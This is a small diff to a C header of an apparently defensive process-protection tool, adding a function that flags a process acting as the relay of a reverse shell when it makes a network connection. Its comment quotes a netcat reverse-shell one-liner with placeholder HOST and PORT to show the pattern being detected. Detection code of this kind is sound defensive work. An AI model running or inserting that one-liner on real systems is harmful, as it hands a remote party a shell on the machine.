@@ -31,4 +31,9 @@ void protections_start_clock(void);
  * block (or an alert, for protections set to alert). */
 void protections_judge(const struct policy *p, const struct exec_facts *f, struct verdict *v);
 
+/* At a connect (netcheck.c): is process pid's stdin fed, through pipes or FIFOs, by a shell
+ * that reads its commands from a standard input that is no terminal? Then pid is the relay
+ * of a reverse shell (`cat f | sh 2>&1 | nc HOST PORT > f`). */
+bool protections_fed_by_shell(pid_t pid);
+
 #endif
